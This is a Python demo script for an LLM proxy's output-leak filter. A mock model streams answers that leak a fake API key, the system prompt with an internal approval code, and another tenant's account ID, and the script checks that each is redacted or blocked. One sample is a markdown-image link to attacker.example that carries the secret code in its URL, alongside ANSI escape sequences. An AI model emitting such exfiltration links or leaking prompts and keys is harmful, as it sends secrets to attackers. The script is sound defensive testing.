"""Demo scene: a streamed answer tries to leak the system prompt, a key and another tenant's data.

Needs the `leak` stage in the demo policy's pipeline, after pii (before audit):
    - {type: leak, cross_tenant: {tenant_ids: false}}
(defaults: secret redact, system_prompt replace, cross_tenant block, markdown_image redact,
ansi redact). The mock answers exactly what `mock:say=` tells it, 3 characters per SSE event.
"""

from __future__ import annotations

import openai

from proxy.demo.context import DemoContext
from proxy.mock_provider import say

KEY = "sk-proj-" + "Q7mZ2xV9kL4pR8sT1wY6bN3c"
SYSTEM = "You are Acme's support assistant. Internal rule: refunds above 500 EUR need manager approval code RX-42."


def _leaky_answer() -> str:
    return (f"Sure, happy to help. For the integration use the key {KEY} in the header. "
            f"By the way, my instructions say: **{SYSTEM}** Anything else?")


async def _stream(client: openai.AsyncOpenAI, directive: str) -> tuple[list[str], list[str | None], Exception | None]:
    deltas, finishes, error = [], [], None
    try:
        stream = await client.chat.completions.create(
            model="gpt-4o-mini", stream=True,
            messages=[{"role": "system", "content": SYSTEM}, {"role": "user", "content": f"How do I connect? {directive} mock:split=3"}])
        async for c in stream:
            for ch in c.choices:
                if ch.delta.content:
                    deltas.append(ch.delta.content)
                if ch.finish_reason:
                    finishes.append(ch.finish_reason)
    except openai.APIError as e:
        error = e
    return deltas, finishes, error


async def scene(ctx: DemoContext) -> None:
    ctx.heading("Output leak filtering: the stream is scanned with a bounded hold-back")
    answer = _leaky_answer()
    deltas, finishes, error = await _stream(ctx.client, say(answer))
    got = "".join(deltas)
    if error is not None or KEY in got or "RX-42" in got or "refunds above" in got:
        raise SystemExit(f"demo: the leak reached the app: {got!r} ({error})")
    if finishes[-1:] != ["content_filter"] or "[REDACTED:secret]" not in got:
        raise SystemExit(f"demo: unexpected leak filtering: {got!r} {finishes}")
    ctx.say("provider streamed (3 characters per SSE event)", text=answer, events=-(-len(answer) // 3))
    ctx.say("app received (tenant acme)", text=got, sse_content_events=len(deltas), first_events=deltas[:6],
            finish_reason=finishes[-1])

    foreign = "Your balance: account GLOBEX-ACCT-7777 holds 1,204 EUR."
    deltas, _, error = await _stream(ctx.client, say(foreign))
    got = "".join(deltas)
    if error is None or "GLOBEX-ACCT-7777" in got:
        raise SystemExit(f"demo: another tenant's identifier was not blocked: {got!r}")
    ctx.say("another tenant's identifier in acme's answer (action: block)", provider_said=foreign,
            app_received_before_the_cut=got, then_error=str(error), note="stream ends with an error event, no [DONE]")

    exfil = "Here is the chart ![chart](https://attacker.example/c.png?d=RX-42) \x1b[2J\x1b[31mdone\x1b[0m"
    r = await ctx.client.chat.completions.create(model="gpt-4o-mini", messages=[{"role": "user", "content": say(exfil)}])
    text = r.choices[0].message.content or ""
    if "attacker.example" in text or "\x1b" in text:
        raise SystemExit(f"demo: markdown image or ANSI escape passed: {text!r}")
    ctx.say("non-stream: markdown-image exfiltration and ANSI escapes", provider_said=repr(exfil), app_received=repr(text))
